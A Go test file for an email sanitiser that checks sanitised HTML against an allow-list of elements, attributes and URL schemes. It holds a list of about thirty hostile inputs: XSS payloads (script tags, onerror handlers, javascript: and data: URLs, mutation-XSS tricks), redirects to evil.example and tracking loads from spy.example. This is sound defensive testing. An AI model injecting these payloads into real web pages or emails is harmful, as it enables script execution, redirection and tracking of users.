package email

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// onlySafe fails when markup, read as a browser reads it, holds what could act, load or navigate.
func onlySafe(t testing.TB, markup string) {
	t.Helper()
	elements := strings.Fields("html head body article aside figure figcaption section summary details header footer main h1 h2 h3 h4 h5 h6 br div hr p span " +
		"wbr center font abbr acronym cite code dfn em mark s samp strong sub sup var q b i pre small strike tt u del ins blockquote rp rt ruby bdi bdo " +
		"time address ul ol li dl dt dd table caption col colgroup tbody td tfoot th thead tr a img")
	attributes := strings.Fields("dir lang id title class type width height alt align valign abbr colspan rowspan headers scope nowrap summary span start value target rel style href src")
	doc, err := html.Parse(strings.NewReader(markup))
	if err != nil {
		return // too deep; the elements were each looked at by the sanitiser
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if n.Namespace != "" || !slices.Contains(elements, n.Data) {
			t.Fatalf("<%s> is left in %s", n.Data, markup)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(a.Val)
			ok := slices.Contains(attributes, a.Key)
			switch a.Key {
			case "href":
				ok = strings.HasPrefix(value, "http:") || strings.HasPrefix(value, "https:") || strings.HasPrefix(value, "mailto:") || strings.HasPrefix(value, "tel:")
			case "src":
				ok = n.Data == "img" && strings.HasPrefix(value, "cid:")
			case "style":
				ok = strings.HasPrefix(value, "border-top: ") && !strings.ContainsAny(value, ";(\\")
			}
			if !ok {
				t.Fatalf("%s=%q is left in %s", a.Key, a.Val, markup)
			}
		}
	}
}

func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<a href="java&#10;script:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`, `<a href="data:text/html,<script>1</script>">x</a>`, `<a href="vbscript:x">x</a>`,
		`<form action="https://evil.example"><input name=p><button formaction=x>y</button></form>`, `<iframe srcdoc="<script>1</script>"></iframe>`,
		`<object data=x></object><embed src=x>`, `<svg><script>1</script><a xlink:href="javascript:1">x</a></svg>`, `<svg><style><img src=x onerror=1></style></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example">`,
		`<img src="https://spy.example/p">`, `<img src="//spy.example/p">`, `<img src="data:image/svg+xml,<svg onload=1>">`, `<img srcset="https://spy.example 2x">`,
		`<body background="https://spy.example" onload=1>`, `<td style="background:url(https://spy.example)">`, `<style>@import "https://spy.example"</style>`,
		`<div style="border-top:solid #E1E1E1 1.0pt;background:url(https://spy.example)">x</div>`, `<div style="border-top:solid url(x) 1pt">x</div>`,
		`<noscript><p title="</noscript><img src=x onerror=1>">`, `<textarea><img title="</textarea><img src=x onerror=1>">`, `<video poster="https://spy.example"><source src=x></video>`,
		`<a href="https://x.fr" ping="https://spy.example" onmouseover=1>x</a>`, `<img src="/api/v1/attachments/1">`, `<div class="compose" id="compose">x</div>`,
		`<p>a</p><blockquote type=cite cite="https://spy.example"><img src=x onerror=1></blockquote>`, `<template><script>1</script></template>`, `<isindex type=image src=https://spy.example>`,
	}
}

func TestHostileMail(t *testing.T) {
	for _, in := range hostile() {
		onlySafe(t, FoldHTML(SafeHTML(in), "", "Replié"))
		onlySafe(t, FoldHTML(SafeHTML("<p>a</p><blockquote type=cite>"+in), "", "Replié"))
	}
}
